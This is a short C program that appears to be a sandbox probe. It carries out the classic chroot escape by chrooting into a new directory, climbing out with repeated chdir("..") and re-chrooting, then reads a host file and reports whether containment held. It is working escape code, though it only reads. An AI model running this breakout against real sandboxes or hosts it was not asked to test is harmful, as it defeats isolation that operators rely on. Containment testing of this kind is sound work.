/*
 * chroot_escape: the classic way out of a chroot, tried harmlessly.
 *
 * A process that may call chroot(2) makes a directory, chroots into it
 * while its working directory stays where it was, outside the new root,
 * then climbs with chdir("..") (the kernel only stops a climb at the
 * current root, which is now below it) and chroots to where it got.  If
 * that was the host's root, the file named on the command line is the
 * host's.  The probe only reads that file: success changes nothing.
 *
 *   chroot_escape PATH     prints "ESCAPED: ..." or "contained: ..."
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	const char *target = argc > 1 ? argv[1] : "/etc/hostname";
	char line[256] = "";
	FILE *f;
	int i;

	if (mkdir("/chroot-escape", 0700) != 0 && errno != EEXIST) {
		printf("contained: mkdir: %s\n", strerror(errno));
		return 1;
	}
	if (chdir("/") != 0 || chroot("/chroot-escape") != 0) {
		printf("contained: chroot: %s\n", strerror(errno));
		return 1;
	}
	/* The working directory is still "/" of the old root: climb. */
	for (i = 0; i < 256; i++)
		if (chdir("..") != 0)
			break;
	if (chroot(".") != 0) {
		printf("contained: chroot(.): %s\n", strerror(errno));
		return 1;
	}
	f = fopen(target, "r");
	if (f == NULL) {
		printf("contained: %s: %s\n", target, strerror(errno));
		return 1;
	}
	if (fgets(line, sizeof line, f) == NULL)
		line[0] = '\0';
	fclose(f);
	line[strcspn(line, "\n")] = '\0';
	printf("ESCAPED: %s: %s\n", target, line);
	return 0;
}
